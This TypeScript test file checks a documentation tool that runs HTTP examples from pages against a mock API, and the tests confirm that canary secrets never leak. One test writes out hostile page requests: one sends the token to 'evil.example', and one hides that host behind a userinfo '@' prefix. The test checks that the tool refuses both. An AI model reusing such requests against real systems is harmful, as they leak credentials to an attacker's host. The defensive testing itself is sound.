import { readFileSync } from 'node:fs'
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http'
import { join } from 'node:path'
import { afterAll, beforeAll, beforeEach, expect, it } from 'vitest'
import { elementsNamed, parseXml } from '../../../server/src/publish/test/xml.ts'
import { aCatalog, aPage } from '../../../server/src/test/given.ts'
import { onEachDatabase } from '../../../server/src/test/product.ts'
import { problemsOfSarif } from '../findings/test/sarif-schema.ts'
import { folderOf } from '../test/folder.ts'
import { type Item, itemWithKeys, type RunResult, start } from '../test/site.ts'

const CANARY = 'canary-7f3a'
const fence = (info: string, request: string, answer?: object) =>
  `\`\`\`http ${info}\n${request}\n\`\`\`\n\n${answer ? `\`\`\`json response\n${JSON.stringify(answer)}\n\`\`\`\n\n` : ''}`

const order = { id: 7, total: '9.90', lines: [{ sku: 'a', pieces: 1 }] }

/** An API with answers that are right, and some that are not. */
function api(request: IncomingMessage, reply: ServerResponse) {
  const { pathname } = new URL(request.url ?? '/', 'http://api.test')
  const json = (status: number, value: unknown) =>
    reply.writeHead(status, { 'content-type': 'application/json', 'x-secret': `${CANARY}-header` }).end(JSON.stringify(value))
  if (request.headers.authorization !== `Bearer ${CANARY}-token`) return void json(401, {})
  const answers: Record<string, () => void> = {
    '/wrong-status': () => json(500, { message: `${CANARY}-body` }),
    '/missing': () => json(200, { id: 7, total: `${CANARY}-body`, lines: [{ sku: 'a' }, { sku: 'b', pieces: 2 }] }),
    '/type': () => json(200, { ...order, id: `${CANARY}-body` }),
    '/text': () => reply.writeHead(200).end(`${CANARY}-body`),
    '/moved': () => reply.writeHead(302, { location: '/right/0' }).end(),
    '/more': () => json(200, { ...order, [`${CANARY}-field`]: 1, other: 2 }),
    '/large': () => reply.writeHead(200).end(Buffer.alloc(6 * 1024 * 1024, 'a')),
    '/broken': () => request.socket.destroy(),
  }
  const answer = answers[pathname] ?? (() => json(request.method === 'POST' ? 201 : 200, order))
  answer()
}

onEachDatabase('sheaf-push examples', (product) => {
  let server: Server
  let host: string
  const received: string[] = []
  beforeAll(async () => {
    server = createServer((request, reply) => {
      received.push(`${request.method} ${request.url}`)
      api(request, reply)
    })
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
    host = `http://127.0.0.1:${(server.address() as { port: number }).port}`
  })
  afterAll(() => void server.close())

  let item: Item
  let folder: string
  beforeEach(async () => {
    item = await itemWithKeys(product)
    folder = folderOf({ 'notes.md': '' })
    received.length = 0
  })
  const given = () => ({ CI_COMMIT_SHA: 'abcdef0123456789', SHEAF_VAR_host: host, SHEAF_VAR_token: `${CANARY}-token` })
  const examples = (...argv: string[]) => startWith({}, ...argv)
  const startWith = (env: Record<string, string>, ...argv: string[]): Promise<RunResult> =>
    start(product, { env: { ...item.env, ...given(), ...env }, folder }, 'examples', '--env', 'staging', ...argv)
  const page = (page_content: string, more: Record<string, string> = {}) => aPage(item.owner, item.item_id, { page_content, ...more })
  const get = (path: string, info = 'env=staging expect=200', answer?: object) =>
    fence(info, `GET {{host}}${path}\nauthorization: Bearer {{token}}`, answer)
  const truth = (page_id: string) => item.owner.api.truth.page({ page_id })

  it('finds exactly the five wrong ones of twenty, with the path', async () => {
    const right = Array.from({ length: 12 }, (_, n) => get(`/right/${n}`, 'env=staging expect=200', order))
    const wrong = ['/wrong-status', '/missing', '/type', '/text', '/moved'].map((path) => get(path, 'env=staging expect=200', order))
    const first = await page(right.join(''), { page_title: 'Right' })
    const second = await page([...wrong, get('/more', 'expect=2xx', order), get('/right/a', 'expect=200')].join(''), {
      page_title: 'Wrong',
    })
    await page(fence('[HEAD] env=staging expect=200', 'HEAD {{host}}/right/b\nauthorization: Bearer {{token}}', order), {
      page_title: 'Head',
    })
    const { code, out, err, calls } = await examples('--junit', 'out/junit.xml', '--sarif', 'out/sarif.json')
    expect([code, err, calls]).toEqual([4, '', ['getExamples', 'reportExamples']])
    expect(out).toBe(`staging: 20 examples on 3 pages
15 pass, 5 fail, 0 could not be run, 0 skipped
Failing:
  - Wrong: GET /wrong-status: answers 500, not 200
  - Wrong: GET /missing: lines[].pieces is missing
  - Wrong: GET /type: id has another type
  - Wrong: GET /text: the answer is no JSON
  - Wrong: GET /moved: answers 302, not 200
The answer has more than the page or the description shows:
  - Wrong: GET /more: 2 more fields in $
`)
    expect(await truth(first)).toMatchObject({ state: '' })
    const { state, reasons } = await truth(second)
    expect([state, reasons.map(({ target }) => target)]).toEqual([
      'stale',
      ['GET /wrong-status', 'GET /missing', 'GET /type', 'GET /text', 'GET /moved'],
    ])
    expect((await item.owner.api.page.view({ page_id: second, language: 'en' })).html.match(/class="tag bad">Fails/g)).toHaveLength(5)
    const root = parseXml(readFileSync(join(folder, 'out/junit.xml'), 'utf8'))
    const cases = elementsNamed(root, 'testcase')
    expect([cases.length, cases.filter(({ children }) => children.some(({ name }) => name === 'failure')).length]).toEqual([20, 5])
    const log = JSON.parse(readFileSync(join(folder, 'out/sarif.json'), 'utf8'))
    expect(problemsOfSarif(log)).toEqual([])
    expect(log.runs[0].results).toHaveLength(5)
    expect(log.runs[0].results[1]).toMatchObject({
      ruleId: 'failed-example',
      message: { text: 'Wrong: GET /missing: lines[].pieces is missing' },
      relatedLocations: [{ physicalLocation: { artifactLocation: { uri: expect.stringMatching(/^https?:\/\/.+\/\d+\/\d+$/) } } }],
    })
  })

  it('keeps bodies, headers and values to itself', async () => {
    await page(
      ['/wrong-status', '/missing', '/type', '/text', '/more', '/broken']
        .map((path) => get(path, 'env=staging expect=200', order))
        .join(''),
    )
    await page(
      fence('env=staging', 'GET {{host}}/right\nx-a: {{line}}') +
        fence('env=staging', 'GET {{other}}/right') +
        fence('env=staging', `GET https://{{token}}.example/`),
    )
    const sent: string[] = []
    const { send } = product
    const all = await start(
      product,
      {
        env: { ...item.env, ...given(), SHEAF_VAR_line: `${CANARY}\n${CANARY}`, SHEAF_VAR_other: `${CANARY}.example` },
        folder,
        fetch: async (address: Parameters<typeof fetch>[0], options: RequestInit = {}) => {
          sent.push(String(options.body))
          const url = String(address).replace('https://docs.test', '')
          const request = new Request(address, options)
          const payload = Buffer.from(await request.arrayBuffer())
          const reply = await send({ method: 'POST', url, headers: Object.fromEntries(request.headers), payload })
          return new Response(reply.body, { status: reply.statusCode })
        },
      },
      ...['examples', '--env', 'staging', '--json', '--junit', 'junit.xml', '--sarif', 'sarif.json'],
    )
    expect(all.code).toBe(4)
    expect(sent.length).toBe(2)
    const { store } = product.server.services
    const rows = await store.db.selectFrom('example_run').selectAll().where('item_id', '=', Number(item.item_id)).execute()
    expect(rows.some(({ detail }) => detail.includes('lines[].pieces'))).toBe(true)
    const files = ['junit.xml', 'sarif.json'].map((file) => readFileSync(join(folder, file), 'utf8'))
    for (const text of [all.out, all.err, ...sent, JSON.stringify(rows), ...files]) expect(text).not.toContain('canary')
  })

  it('names what is missing, and sends nothing to a host that the build does not name', async () => {
    await page(
      get('/right') +
        fence('[Missing] env=staging', 'GET {{host}}/right/{{order}}\nx-a: {{zone}}') +
        fence('[Elsewhere] env=staging', 'GET http://evil.example/?t={{token}}') +
        fence('[Inside] env=staging', 'GET {{host}}@evil.example/') +
        fence('[Relative] env=staging', 'GET /orders') +
        fence('[Body] env=staging', 'GET {{host}}/right\n\n{}') +
        fence('[Answer] env=staging', 'GET {{host}}/right').trimEnd() +
        '\n```json response\n{ not json\n```\n',
    )
    const { code, out } = await examples()
    expect(code).toBe(1)
    expect(out).toContain('1 pass, 0 fail, 6 could not be run, 0 skipped\n')
    expect(out).toContain('Missing: the build has no SHEAF_VAR_order, SHEAF_VAR_zone\n')
    expect(out.match(/the address has another host than all variables of the build/g)).toHaveLength(2)
    expect(out).toContain('Relative: the address does not begin with http:// or https://\n')
    expect(out).toContain('Body: a request with GET or HEAD has no body\n')
    expect(out).toContain('Answer: the expected answer on the page is no JSON')
    expect(received).toEqual(['GET /right'])
  })

  it('sends what can change something only with run=unsafe and --unsafe', async () => {
    const post = (info: string, path: string) => fence(info, `POST {{host}}${path}\nauthorization: Bearer {{token}}\n\n{"a":1}`)
    await page(post('env=staging expect=201', '/a') + post('env=staging expect=201 run=unsafe', '/b'))
    const without = await examples()
    expect([without.code, without.calls, received]).toEqual([0, ['getExamples'], []])
    expect(without.out).toContain('0 pass, 0 fail, 0 could not be run, 2 skipped\n')
    expect((await examples('--unsafe', '--dry-run')).out).toContain('2 skipped')
    expect((await examples('--unsafe')).out).toContain('1 pass, 0 fail, 0 could not be run, 1 skipped\n')
    expect(received).toEqual(['POST /b'])
  })

  it('fails for an answer that is too large, and cannot say anything without an answer', async () => {
    const page_id = await page(get('/large', 'env=staging') + get('/broken', 'env=staging'))
    const { code, out } = await examples()
    expect(code).toBe(4)
    expect(out).toContain('GET /large: the answer is larger than 5 MB\n')
    expect(out).toMatch(/GET \/broken: no answer \((?:ECONNRESET|UND_ERR_SOCKET|failed)\)\n/)
    expect((await truth(page_id)).reasons.map(({ target }) => target)).toEqual(['GET /large'])
  })

  it('--dry-run reports nothing; --catalog takes those of a catalog', async () => {
    const cat_id = await aCatalog(item.owner, item.item_id, 'Orders')
    const page_id = await page(get('/wrong-status'))
    await page(get('/right'), { cat_id })
    const { code, out, calls } = await examples('--dry-run')
    expect([code, calls]).toEqual([4, ['getExamples']])
    expect(out).toContain('Nothing was reported, and no example that changes something was sent.\n')
    expect(await truth(page_id)).toMatchObject({ state: '' })
    expect(await examples('--catalog', 'Orders')).toMatchObject({ code: 0, out: expect.stringContaining('1 pass, 0 fail') })
    expect(await examples('--catalog', 'None')).toMatchObject({ code: 2, err: 'There is no catalog “None”.\n' })
    expect(await start(product, { env: item.env, folder }, 'examples')).toMatchObject({ code: 2, err: expect.stringContaining('--env') })
    expect((await start(product, { env: item.env, folder }, 'examples', '--env', 'live')).out).toContain(
      'No page of the item has an example',
    )
    expect((await startWith({ LANG: 'zh_CN.UTF-8' })).out).toContain('GET /wrong-status：返回 500，应为 200')
  })
})
